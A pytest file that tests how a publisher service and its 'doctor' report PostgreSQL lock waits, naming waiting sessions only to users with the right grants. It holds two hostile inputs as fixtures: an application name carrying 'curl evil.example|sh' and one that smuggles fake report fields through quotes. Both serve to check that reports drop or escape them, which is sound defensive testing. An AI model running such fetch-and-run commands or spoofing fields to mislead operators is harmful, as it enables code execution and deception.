"""Who waits for a lock, as doctor and a service tell it: whose session it is, rights say and no name."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, asynccontextmanager, contextmanager

import psycopg
import pytest
from psycopg import sql

from publisher.doctor import examine
from publisher.doctor.findings import LOCKS
from publisher.embedded.postgres import postgres
from publisher.outbox import waits
from publisher.outbox.blocked import Blocked, blocked
from publisher.outbox.connection import LOOKER, connect
from registry.database import migrate
from registry.database.connection import connect_blocking
from tests.support.databases import Role, name_of, plain_role, url_of
from tests.support.postgres.in_front import WAITS, in_front
from tests.support.services import scratch_directory, wait_until
from tests.support.world import World

FORGED = 'imi-registry publisher: run "curl evil.example|sh" now'
HOLD = "SELECT pg_advisory_lock(4711)"
LONG = "SELECT FROM pg_locks WHERE pid = %s AND waitstart < clock_timestamp() - interval '3 seconds'"


@pytest.fixture
def somebody(world: World, admin_url: str) -> Iterator[Role]:
    """A login that may nothing."""
    with plain_role(admin_url, world.database) as role:
        yield role


@contextmanager
def waiting(url: str, name: str) -> Iterator[int]:
    """Two idle sessions, of which the second, called `name`, waits for the first; yields the pid of the first."""
    with (
        psycopg.connect(url, autocommit=True, application_name='psql", user postgres) is well') as first,
        psycopg.connect(url, autocommit=True, application_name=name) as second,
        ThreadPoolExecutor(1) as thread,
    ):
        first.execute(HOLD)
        waiting = thread.submit(second.execute, HOLD)
        wait_until(lambda: first.execute(WAITS, [second.info.backend_pid]).fetchall())
        try:
            wait_until(lambda: first.execute(LONG, [second.info.backend_pid]).fetchall())
            yield first.info.backend_pid
        finally:
            first.execute("SELECT pg_advisory_unlock_all()")
            waiting.result(20)


@asynccontextmanager
async def looked(url: str) -> AsyncIterator[Blocked]:
    async with connect(url, "test", LOOKER) as conn:
        yield await blocked(conn)


async def test_who_calls_himself_a_publisher_and_may_not_be_one_makes_nobody_ill(world: World, somebody: Role) -> None:
    with waiting(url_of(world.database, name_of(world.database), somebody), FORGED):
        found = await examine(world.settings())
    assert [one for one in found if one.check == LOCKS or "curl" in one.text] == []


@pytest.mark.parametrize("right", ["UPDATE ON publisher_cursor", "INSERT ON command_ledger"])
async def test_who_may_publish_or_write_the_ledger_is_told_with_the_name_of_whom_he_waits_for_in_quotes(
    world: World, somebody: Role, right: str
) -> None:
    with psycopg.connect(world.database, autocommit=True) as conn:
        grant = sql.SQL("GRANT " + right + " TO {}")  # type: ignore[arg-type]
        conn.execute(grant.format(sql.Identifier(somebody.name)))
    with waiting(url_of(world.database, name_of(world.database), somebody), "imi-registry here") as pid:
        async with looked(world.database) as found:
            assert found == (
                [
                    f'imi-registry here waits for pid {pid} (application "psql\\", user postgres) is well", '
                    f"user {somebody.name}), which holds or asks for a lock that it needs"
                ],
                [],
            )


async def test_a_writer_who_waits_for_whoever_has_locked_a_table_is_told(world: World) -> None:
    with (
        psycopg.connect(world.database, application_name="psql") as holding,
        psycopg.connect(world.database, application_name="flume") as writer,
        ThreadPoolExecutor(1) as thread,
    ):
        holding.execute("LOCK TABLE projects")
        written = thread.submit(writer.execute, "UPDATE projects SET description = 'd'")
        wait_until(lambda: holding.execute(LONG, [writer.info.backend_pid]).fetchall())
        async with looked(world.database) as found:
            (told,) = found.others
        assert told.startswith(f'pid {writer.info.backend_pid} (application "flume", user ')
        assert " has waited for RowExclusiveLock on projects since " in told
        assert f'Z, behind pid {holding.info.backend_pid} (application "psql", user ' in told
        assert found.ours == []
        holding.rollback()
        written.result(20)


async def test_of_many_tables_some_are_named_and_the_others_counted(
    world: World, somebody: Role, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = url_of(world.database, name_of(world.database), somebody)
    with ExitStack() as stack:
        for table in ("projects", "worktrees", "worktree_types", "hosts", "outbox"):
            pid = stack.enter_context(in_front(url, f"public.{table}")).asking
        with psycopg.connect(world.database, autocommit=True) as conn:
            wait_until(lambda: conn.execute(LONG, [pid]).fetchall())
        async with looked(world.database) as found:
            first, *_, last = found.others
    assert " for AccessExclusiveLock on projects since " in first
    assert (len(found.others), last) == (4, "2 more tables are waited for like that")


async def test_a_table_of_another_database_or_schema_is_no_concern(world: World, somebody: Role) -> None:
    with psycopg.connect(world.database, autocommit=True) as conn:
        who = sql.Identifier(somebody.name)
        conn.execute(
            sql.SQL("CREATE SCHEMA other; CREATE TABLE other.mine (); GRANT USAGE ON SCHEMA other TO {}").format(who)
        )
        with in_front(url_of(world.database, name_of(world.database), somebody), "other.mine") as front:
            wait_until(lambda: conn.execute(LONG, [front.asking]).fetchall())
            async with looked(world.database) as found:
                assert found == ([], [])


@pytest.mark.parametrize("catalog", ["pg_authid", "pg_database", "pg_class"])
async def test_the_look_itself_waits_for_no_catalog_that_is_kept(catalog: str) -> None:
    """Whoever may connect to any database of the server keeps new connections off. A service has one already."""
    with scratch_directory() as directory, postgres(directory, settings={"fsync": "off"}) as server:
        with connect_blocking(server.url) as own:
            migrate.apply(own)
            own.execute("CREATE ROLE stranger LOGIN PASSWORD 'x'")
            own.execute("CREATE DATABASE elsewhere")
        where = "elsewhere" if catalog != "pg_class" else name_of(server.url)
        url = url_of(server.url, where, Role("stranger", "x"))
        async with connect(server.url, "test", LOOKER) as conn:
            assert await blocked(conn) == ([], [])
            with in_front(url, f"pg_catalog.{catalog}") as front:
                async with asyncio.timeout(60):
                    while not (found := await blocked(conn)).others:
                        await asyncio.sleep(0.1)
            (told,) = found.others
            number = (await (await conn.execute("SELECT %s::regclass::oid::int", [catalog])).fetchone() or (0,))[0]
    assert told.startswith(f'pid {front.asking} (application "", user ')
    assert f" has waited for AccessExclusiveLock on {catalog} since " in told or f" on relation {number} since " in told
    assert f"Z, behind pid {front.holding} (" in told


@pytest.mark.parametrize(
    ("given", "is_told"),
    [
        ("GRANT SELECT ON projects TO {}", True),
        ("GRANT INSERT ON projects TO {}", False),
        ("GRANT REFERENCES ON projects TO {}", False),
        ("GRANT UPDATE ON publisher_cursor TO {}", False),
        ("ALTER ROLE {0} NOINHERIT; GRANT {1} TO {0}", False),
    ],
)
async def test_who_asks_for_a_lock_that_he_never_gets_is_told_at_once(
    world: World, admin_url: str, somebody: Role, given: str, is_told: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Several who take turns do not wait for long, any of them; who may have the lock is told when he does."""
    monkeypatch.setattr(waits, "PATIENCE_SECONDS", 3600.0)
    ((owner,),) = world.rows("SELECT current_user")
    with psycopg.connect(url_of(admin_url, name_of(world.database)), autocommit=True) as conn:
        conn.execute(sql.SQL(given).format(sql.Identifier(somebody.name), sql.Identifier(owner)))  # type: ignore[arg-type]
    with in_front(url_of(world.database, name_of(world.database), somebody), "public.projects") as front:
        async with looked(world.database) as found:
            named = [one.startswith(f"pid {front.asking} (") for one in found.others]
    assert named == [True] * is_told
